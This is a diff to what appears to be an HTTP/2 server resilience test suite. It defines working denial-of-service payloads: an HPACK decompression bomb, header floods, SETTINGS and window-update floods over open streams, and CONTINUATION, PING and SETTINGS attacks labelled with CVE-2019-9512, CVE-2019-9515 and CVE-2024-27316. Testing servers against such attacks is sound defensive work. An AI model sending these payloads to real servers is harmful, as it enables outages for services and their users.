@@ -88,6 +88,11 @@ def headers(stream_id: int, fields: bytes = REQUEST, flags: int = 0x4) -> bytes:
     return frames.header(len(fields), frames.HEADERS, flags, stream_id) + fields
 
 
+def long_headers(stream_id: int, fields: bytes) -> bytes:
+    """In as few frames as are allowed."""
+    return frames.headers(stream_id, fields, end_stream=False, max_frame=frames.DEFAULT_MAX_FRAME)
+
+
 def whole_request(stream_id: int) -> bytes:
     return headers(stream_id) + frames.header(len(MESSAGE), frames.DATA, frames.END_STREAM, stream_id) + MESSAGE
 
@@ -131,10 +136,9 @@ def _trickle() -> Chunks:
 
 
 def _bomb() -> bytes:
-    """One entry of 3.9 KiB put into the dynamic table, then named 19,000 times: 75 MB if anybody believed it."""
+    """One entry of 3.9 KiB put into the dynamic table, then named 50,000 times: 200 MB if anybody believed it."""
     entry = b"\x40\x01a\x7f\x81\x1e" + b"v" * (127 + 1 + 30 * 128)
-    fields = REQUEST + entry + b"\xbe" * 50_000
-    return fields
+    return REQUEST + entry + b"\xbe" * 50_000
 
 
 _HUGE = REQUEST + b"".join(block((b"x-%d" % i, b"v" * 90)) for i in range(600))
@@ -146,7 +150,7 @@ _STALLED = (
     + b"".join(whole_request(2 * i + 1) for i in range(1000))
 )
 _MANY_SETTINGS = b"".join(
-    frames.INITIAL_WINDOW_SIZE.to_bytes(2, "big") + (65_535 + i % 2).to_bytes(4, "big") for i in range(9_000)
+    frames.INITIAL_WINDOW_SIZE.to_bytes(2, "big") + (65_535 + i % 2).to_bytes(4, "big") for i in range(2_700)
 )
 _MALFORMED = (
     frames.window_update(0, 2**31 - 1),
@@ -265,7 +269,7 @@ ATTACKS: dict[str, Attack] = {
     "refused streams": Attack("streams beyond the announced limit", numbered(lambda i: headers(2 * i + 1), 1)),
     "settings": Attack("CVE-2019-9515", same(frames.settings({frames.INITIAL_WINDOW_SIZE: 65_535}))),
     "settings over open streams": Attack(
-        "one frame moves the windows of 1000 streams 9000 times",
+        "one frame moves the windows of 1000 streams 2700 times",
         after(_OPEN_1000, frames.header(len(_MANY_SETTINGS), frames.SETTINGS, 0, 0) + _MANY_SETTINGS),
     ),
     "ping": Attack("CVE-2019-9512", same(frames.ping(b"hostile!", ack=False))),
@@ -275,8 +279,8 @@ ATTACKS: dict[str, Attack] = {
         "CVE-2024-27316: a header block without end",
         after(headers(1, REQUEST, 0x0), frames.header(1000, frames.CONTINUATION, 0, 1) + b"\0" * 1000),
     ),
-    "hpack bomb": Attack("a small block that says 200 MB", numbered(lambda i: headers(2 * i + 1, _bomb()), 1, 200)),
-    "huge header list": Attack("63 KiB of fields, again and again", numbered(lambda i: headers(2 * i + 1, _HUGE), 1, 500)),
+    "hpack bomb": Attack("a small block that says 200 MB", numbered(lambda i: long_headers(2 * i + 1, _bomb()), 1, 200)),
+    "huge header list": Attack("63 KiB of fields, again and again", numbered(lambda i: long_headers(2 * i + 1, _HUGE), 1, 500)),
     "window updates": Attack("one more byte, for ever", same(frames.window_update(0, 1))),
     "window updates over stalled streams": Attack(
         "1000 answers wait for windows; each update asks to look at all of them",
